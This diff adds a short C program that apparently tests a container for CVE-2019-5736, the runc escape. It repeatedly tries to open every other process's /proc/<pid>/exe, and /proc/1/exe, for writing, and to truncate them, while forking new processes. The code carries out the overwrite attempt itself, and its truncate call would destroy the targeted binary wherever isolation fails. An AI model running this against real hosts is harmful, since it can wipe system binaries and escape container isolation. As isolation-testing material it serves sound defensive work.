@@ -1,0 +1,53 @@
+/* fs_exe.c SECONDS - overwrites the program that starts programs (CVE-2019-5736): for so long,
+ * tries to open what every process here runs for writing, others start meanwhile. */
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdlib.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "try.h"
+
+static unsigned long looked;
+
+static int open_all(void)
+{
+	DIR *proc = opendir("/proc");
+	struct dirent *entry;
+	char path[300];
+	int got = -1;
+
+	while (proc != NULL && (entry = readdir(proc)) != NULL) {
+		/* Our own is busy, and ours. */
+		if (entry->d_name[0] < '0' || entry->d_name[0] > '9' ||
+		    atoi(entry->d_name) == getpid())
+			continue;
+		(void)snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+		looked++;
+		if (open(path, O_WRONLY) >= 0 || open(path, O_RDWR) >= 0 ||
+		    truncate(path, 0) == 0) {
+			tell(path, 0);
+			got = 0;
+		}
+	}
+	if (proc != NULL)
+		(void)closedir(proc);
+	return got;
+}
+
+int main(int argc, char **argv)
+{
+	time_t until = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
+
+	while (time(NULL) < until) {
+		if (fork() == 0) {
+			(void)execl("/tmp/me", "me", NULL);
+			_exit(0);
+		}
+		(void)open_all();
+		(void)open("/proc/1/exe", O_WRONLY);
+	}
+	tell("/proc/1/exe", open("/proc/1/exe", O_WRONLY));
+	printf("looked at %lu\n", looked);
+	return 0;
+}
